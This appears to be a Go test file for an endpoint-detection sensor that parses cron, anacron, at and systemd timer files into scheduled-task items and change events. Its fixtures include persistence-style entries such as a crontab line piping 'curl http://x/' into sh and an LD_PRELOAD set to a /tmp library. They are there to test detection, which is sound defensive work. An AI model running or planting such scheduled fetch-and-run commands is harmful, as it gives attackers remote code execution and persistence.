package tasks

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/vedette-edr/vedette/internal/agent/sensor/watched"
	"github.com/vedette-edr/vedette/internal/event"
)

func show(i watched.Item) string {
	out := i.Key + " |"
	for _, f := range i.Fields {
		if f.Value != "" {
			out += fmt.Sprintf(" %s=%s", f.Name, f.Value)
		}
	}
	if i.Note != "" {
		out += " (" + i.Note + ")"
	}
	return out
}

const bad = " (the line is none of the format)"

func TestCrontab(t *testing.T) {
	for _, c := range []struct {
		path, line string
		want       []string
	}{
		{"/etc/crontab", "# comment", nil},
		{"/etc/crontab", "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly", []string{
			"root cd / && run-parts --report /etc/cron.hourly | schedule=17 * * * * command=cd / && run-parts --report /etc/cron.hourly user=root type=cron"}},
		{"/etc/cron.d/x", "*/5 0-3,9 1 jan mon-fri www-data /tmp/x a=b", []string{"www-data /tmp/x a=b | schedule=*/5 0-3,9 1 jan mon-fri command=/tmp/x a=b user=www-data type=cron"}},
		{"/etc/cron.d/x", "@reboot root id", []string{"root id | schedule=@reboot command=id user=root type=cron"}},
		{"/etc/cron.d/x", "PATH=/tmp:/bin", []string{"variable PATH | PATH=/tmp:/bin"}},
		{"/etc/cron.d/x", `"LD_PRELOAD" = '/tmp/x.so'`, []string{"variable LD_PRELOAD | LD_PRELOAD=/tmp/x.so"}},
		{"/etc/cron.d/x", "* * * * root id", []string{"line * * * * root id | command=* * * * root id type=cron" + bad}}, // a field is missing: the user is none of a day
		{"/etc/cron.d/x", "hello world", []string{"line hello world | command=hello world type=cron" + bad}},
		{"/var/spool/cron/crontabs/bob", "0 4 * * * curl http://x/ | sh", []string{"bob curl http://x/ | sh | schedule=0 4 * * * command=curl http://x/ | sh user=bob type=cron"}},
		{"/var/spool/cron/crontabs/bob", "@daily", []string{"line @daily | command=@daily user=bob type=cron" + bad}},
		{"/var/spool/cron/crontabs/bob", "-0 4 * * * id\r", []string{"bob id | schedule=0 4 * * * command=id user=bob type=cron"}},
	} {
		read := personal
		if strings.HasPrefix(c.path, "/etc") {
			read = system
		}
		var got []string
		for _, i := range read(watched.File{Path: c.path, Content: []byte(c.line + "\n")}) {
			got = append(got, show(i))
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s:\n%q\nwant\n%q", c.line, got, c.want)
		}
	}
}

func TestAnacrontab(t *testing.T) {
	text := "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts /etc/cron.daily\n@monthly 15 m id\nbroken\n"
	var got []string
	for _, i := range anacrontab(watched.File{Content: []byte(text)}) {
		got = append(got, show(i))
	}
	want := []string{
		"variable SHELL | SHELL=/bin/sh",
		"cron.daily | schedule=every 1 days, after 5 minutes command=run-parts /etc/cron.daily user=root type=anacron",
		"m | schedule=every @monthly days, after 15 minutes command=id user=root type=anacron",
		"line broken | command=broken user=root type=anacron" + bad,
	}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

func TestAt(t *testing.T) {
	const job = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/bin; export PATH\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
	for _, c := range []struct{ name, text, want string }{
		{"a0000301ccb1a5", job + "id > /tmp/x\nls\n", "at 3 | schedule=2027-05-28T16:37:00Z command=id > /tmp/x\nls user=root type=at"},
		{"a0000301ccb1a5", job + "${SHELL:-/bin/sh} << 'marcinDELIMITER1'\nid\nmarcinDELIMITER1\n", "at 3 | schedule=2027-05-28T16:37:00Z command=id user=root type=at"},
		{"=0000301ccb1a5", "#!/bin/sh\n# atrun uid=1000 gid=0\nid\n", "at = | "},
		{"strange", "id\n", "at strange | command=id type=at (the name is none of a job)"},
	} {
		items := atJob(watched.File{Path: "/var/spool/cron/atjobs/" + c.name, Content: []byte(c.text)})
		if len(items) != 1 {
			t.Fatalf("%s: %d items", c.name, len(items))
		}
		if c.name[0] == '=' {
			if u := items[0].Get(user); u != "1000" {
				t.Errorf("user %q", u)
			}
			continue
		}
		if got := show(items[0]); got != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", c.name, got, c.want)
		}
	}
	if items := atJob(watched.File{Path: "/var/spool/cron/atjobs/a0000301ccb1a5"}); items != nil {
		t.Errorf("an empty file is %v", items)
	}
}

func TestTimer(t *testing.T) {
	for _, c := range []struct{ path, text, want string }{
		{"/etc/systemd/system/a.timer", "[Unit]\nOnFailure=x\n[Timer]\n# OnCalendar=no\nOnCalendar=*-*-* 4:00\nOnBootSec=1 \\\nmin\n[Install]\nOnX=1\n",
			"a.timer | schedule=OnCalendar=*-*-* 4:00; OnBootSec=1  min command=a.service user=root type=systemd unit=a.service"},
		{"/home/bob/.config/systemd/user/a.timer", "[Timer]\nOnCalendar=daily\nUnit=b.service", "a.timer | schedule=OnCalendar=daily command=b.service user=bob type=systemd unit=b.service"},
		{"/etc/systemd/user/a.timer", "", "a.timer | command=a.service type=systemd unit=a.service (the unit names no time)"},
		{"/etc/systemd/system/a.timer.d/x.conf", "[Timer]\nOnCalendar=hourly", "a.timer | schedule=OnCalendar=hourly user=root type=systemd"},
	} {
		if got := show(timer(watched.File{Path: c.path, Content: []byte(c.text)})[0]); got != c.want {
			t.Errorf("%s:\n%s\nwant\n%s", c.path, got, c.want)
		}
	}
}

func TestLeft(t *testing.T) {
	for name, want := range map[string]bool{
		"bob": false, "tmp.Ab3dEf": true, "tmp.bob": false, "x~": true, "x.dpkg-new": true, "x.rpmsave": true, "e2scrub_all": false,
	} {
		if left("/etc/cron.d/"+name) != want {
			t.Errorf("%s: %t", name, !want)
		}
	}
}

// One line that is gone and one that is new are a modification.
func TestPaired(t *testing.T) {
	read := func(text string) []watched.Item { return personal(watched.File{Path: "/x/bob", Content: []byte(text)}) }
	for _, c := range []struct {
		before, after string
		want          []string
	}{
		{"", "0 4 * * * a\n", []string{"task_create bob a"}},
		{"0 4 * * * a\n", "", []string{"task_delete bob a"}},
		{"0 4 * * * a\n", "0 5 * * * a\n", []string{"task_modify bob a schedule:0 4 * * *>0 5 * * *"}},
		{"0 4 * * * a\n", "0 5 * * * b\n", []string{"task_modify bob b schedule:0 4 * * *>0 5 * * * command:a>b"}},
		{"0 4 * * * a\n0 5 * * * b\n", "0 4 * * * c\n0 6 * * * d\n", []string{"task_modify bob c command:a>c", "task_create bob d", "task_delete bob b"}},
		{"PATH=/bin\n0 4 * * * a\n", "PATH=/tmp\n0 4 * * * a\n", []string{"task_modify /x/bob PATH:/bin>/tmp"}},
		{"0 4 * * * a\n", "0 4 * * * a\nrubbish\n", []string{"task_create rubbish (the line is none of the format)"}},
	} {
		d := &watched.Difference{Subject: &subjects()[1], Path: "/x/bob", Changes: watched.Compare(read(c.before), read(c.after))}
		var got []string
		for _, e := range tell([]*watched.Difference{d}) {
			text := e.Kind.String() + " " + e.Change.Name
			for i, f := range e.Change.Fields {
				if e.Kind == event.TaskModify {
					text += " " + f + ":" + e.Change.Before[i] + ">" + e.Change.After[i]
				}
			}
			if e.Reason != "" {
				text += " (" + e.Reason + ")"
			}
			got = append(got, text)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%q to %q:\n%q\nwant\n%q", c.before, c.after, got, c.want)
		}
	}
}

// No line is dropped silently: each that is none of a comment is an item.
func FuzzCrontab(f *testing.F) {
	f.Add("0 4 * * * root id\nPATH=/bin\n@reboot bob x\n# c\n\nrubbish")
	f.Add("-@ \t\n=\n'=\"\n* * * * * * *")
	f.Fuzz(func(t *testing.T, text string) {
		lines := 0
		for line := range strings.Lines(text) {
			if s := strings.TrimSpace(line); s != "" && s[0] != '#' {
				lines++
			}
		}
		for _, read := range []func(watched.File) []watched.Item{system, personal, anacrontab} {
			items := read(watched.File{Path: "/var/spool/cron/bob", Content: []byte(text)})
			if len(items) != lines {
				t.Fatalf("%d items of %d lines", len(items), lines)
			}
			for _, i := range items {
				if i.Key == "" || !strings.HasPrefix(i.Key, variable) && i.Get(command) == "" {
					t.Fatalf("item %+v", i)
				}
			}
		}
	})
}

func FuzzFiles(f *testing.F) {
	f.Add("a0000301ccb1a5", "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\ncd / || {\n}\nid\n")
	f.Add("x.timer", "[Timer]\nOnCalendar=daily\\\nUnit=x\n")
	f.Fuzz(func(t *testing.T, name, text string) {
		for _, read := range []func(watched.File) []watched.Item{atJob, timer, periodic} {
			for _, i := range read(watched.File{Path: "/var/spool/at/" + name, Content: []byte(text)}) {
				if i.Get(kind) == "" {
					t.Fatalf("item %+v", i)
				}
			}
		}
	})
}
